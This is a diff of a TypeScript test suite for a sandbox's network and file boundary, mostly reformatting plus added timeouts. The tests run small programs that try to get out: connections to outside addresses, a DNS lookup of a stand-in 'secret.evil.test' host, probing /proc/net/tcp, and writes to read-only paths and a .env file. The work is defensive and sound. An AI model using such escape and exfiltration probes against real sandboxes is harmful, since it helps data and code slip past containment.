@@ -8,11 +8,14 @@ import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { createServer } from "node:net";
 import { join } from "node:path";
 import { test } from "node:test";
-import { type Caught, attempt, bash, nodeInside, openFolder } from "./trial.ts";
+import { attempt, bash, type Caught, nodeInside, openFolder } from "./trial.ts";
 
-const found = (caught: readonly Caught[], to: string): string[] => caught.filter((one) => one.to === to).map((one) => one.by);
+const found = (caught: readonly Caught[], to: string): string[] =>
+  caught.filter((one) => one.to === to).map((one) => one.by);
 
-test("real boundary: every way out comes to the doors, with destination and executable", async () => {
+test("real boundary: every way out comes to the doors, with destination and executable", {
+  timeout: 60_000,
+}, async () => {
   using folder = openFolder();
   const source = `#include <arpa/inet.h>\n#include <sys/socket.h>\n#include <unistd.h>
 int main(){struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(25)};inet_pton(AF_INET,"10.9.8.7",&a.sin_addr);
@@ -45,7 +48,14 @@ getent hosts secret.evil.test; ${compiled ? "/ws/static" : ""}; true`;
   assert.deepEqual(found(caught, "203.0.113.4 2525"), ["/usr/bin/bash"]);
   assert.deepEqual(found(caught, "203.0.113.5 443"), ["/opt/node"]);
   assert.match(python3.join(), /^\/usr\/bin\/python3/);
-  for (const to of ["8.8.8.8 53", "2001:4860:4860::8888 53", "198.51.100.1 123", "198.51.100.2 123", "198.51.100.2 443", "224.0.0.251 5353"]) {
+  for (const to of [
+    "8.8.8.8 53",
+    "2001:4860:4860::8888 53",
+    "198.51.100.1 123",
+    "198.51.100.2 123",
+    "198.51.100.2 443",
+    "224.0.0.251 5353",
+  ]) {
     assert.deepEqual(found(caught, to), python3, `${to} ${said}`);
   }
   assert.ok(found(caught, "100.64.0.53 53").includes("/usr/bin/getent"));
@@ -55,7 +65,9 @@ getent hosts secret.evil.test; ${compiled ? "/ws/static" : ""}; true`;
   assert.ok(caught.every((one) => !one.direct));
 });
 
-test("real boundary: the tool's own servers serve it, on the doors' side nothing is seen", async () => {
+test("real boundary: the tool's own servers serve it, on the doors' side nothing is seen", {
+  timeout: 60_000,
+}, async () => {
   const script = `const net=require("net");
 const places=[[3000,"127.0.0.1","127.0.0.1"],[8080,"0.0.0.0","127.0.0.1"],[443,"0.0.0.0","127.0.0.5"],[3001,"::1","::1"]];
 const one=([port,host,to])=>new Promise(r=>{const s=net.createServer(c=>c.end("own "+port)).listen(port,host,()=>{
@@ -66,7 +78,9 @@ net.connect(port,to,function(){}).on("data",d=>{console.log(String(d));s.close()
   assert.deepEqual(caught, []);
 });
 
-test("real boundary: nothing of the host answers: listeners, unix sockets, abstract sockets", async () => {
+test("real boundary: nothing of the host answers: listeners, unix sockets, abstract sockets", {
+  timeout: 60_000,
+}, async () => {
   using folder = openFolder();
   const seen: string[] = [];
   const listen = async (options: object): Promise<AsyncDisposable & { port: number }> => {
@@ -98,24 +112,30 @@ const u=require("dgram").createSocket("udp4");u.send("x",${udp.address().port},"
   assert.deepEqual(new Set(said.trim().split("\n")), new Set(["ECONNREFUSED", "ENOENT"]));
 });
 
-test("real boundary: a connection to the door itself is told apart", async () => {
+test("real boundary: a connection to the door itself is told apart", { timeout: 60_000 }, async () => {
   const script = `const fs=require("fs"),net=require("net");
 const p=parseInt(fs.readFileSync("/proc/net/tcp","utf8").split("\\n").find(l=>/0100007F:\\w+ 00000000:0000 0A/.test(l)).match(/0100007F:(\\w+)/)[1],16);
 net.connect(p,"127.0.0.1").on("error",()=>0).resume()`;
   const { caught } = await attempt(["/opt/node", "-e", script], { mounts: [nodeInside] });
-  assert.deepEqual(caught.map(({ direct, by }) => [direct, by]), [[true, "/opt/node"]]);
+  assert.deepEqual(
+    caught.map(({ direct, by }) => [direct, by]),
+    [[true, "/opt/node"]],
+  );
 });
 
-test("real boundary: the same source port twice is attributed through the connection table", async () => {
+test("real boundary: the same source port twice is attributed through the connection table", {
+  timeout: 60_000,
+}, async () => {
   const script = `import socket
 def go(to):
   s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(("100.64.0.1",45454)); s.connect(to); return s
 a=go(("198.51.100.7",80)); b=go(("198.51.100.8",80)); print(a.recv(9),b.recv(9))`;
   const { caught, said } = await attempt(["/usr/bin/python3", "-c", script]);
-  for (const to of ["198.51.100.7 80", "198.51.100.8 80"]) assert.match(found(caught, to).join(), /^\/usr\/bin\/python3/, said);
+  for (const to of ["198.51.100.7 80", "198.51.100.8 80"])
+    assert.match(found(caught, to).join(), /^\/usr\/bin\/python3/, said);
 });
 
-test("real boundary: datagrams are seen or counted, none is silent", async () => {
+test("real boundary: datagrams are seen or counted, none is silent", { timeout: 60_000 }, async () => {
   const total = 20_000;
   const script = `import socket,time
 u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.connect(("198.51.100.9",9))
@@ -125,7 +145,7 @@ time.sleep(1)`;
   assert.equal(caught.length + overflow, total);
 });
 
-test("real boundary: the file view is the plan's, and the host stays as it was", async () => {
+test("real boundary: the file view is the plan's, and the host stays as it was", { timeout: 60_000 }, async () => {
   using folder = openFolder();
   const at = (name: string): string => join(folder.path, name);
   mkdirSync(at("ws"));
@@ -156,7 +176,10 @@ tail -n 3 /etc/ssl/certs/ca-certificates.crt | head -n 2; cat $NODE_EXTRA_CA_CER
   assert.match(said, /\/ws\n-----BEGIN CERTIFICATE-----\nc2Vzc2lvbg==\n-----BEGIN CERTIFICATE-----\nc2Vzc2lvbg==\n/);
   assert.equal(said.match(/Read-only file system/g)?.length, 7, said);
   assert.equal(said.match(/No such file or directory/g)?.length, 2, said);
-  assert.deepEqual([".env", "held", "new"].map((name) => readFileSync(at(`ws/${name}`), "utf8")), ["KEY=real", "as it was", "changed\n"]);
+  assert.deepEqual(
+    [".env", "held", "new"].map((name) => readFileSync(at(`ws/${name}`), "utf8")),
+    ["KEY=real", "as it was", "changed\n"],
+  );
   assert.equal(readFileSync(at("canary"), "utf8"), "as it was");
   assert.ok(existsSync(at("home/kept")) && !existsSync("/usr/x") && !existsSync("/etc/x") && !existsSync("/x"));
 });
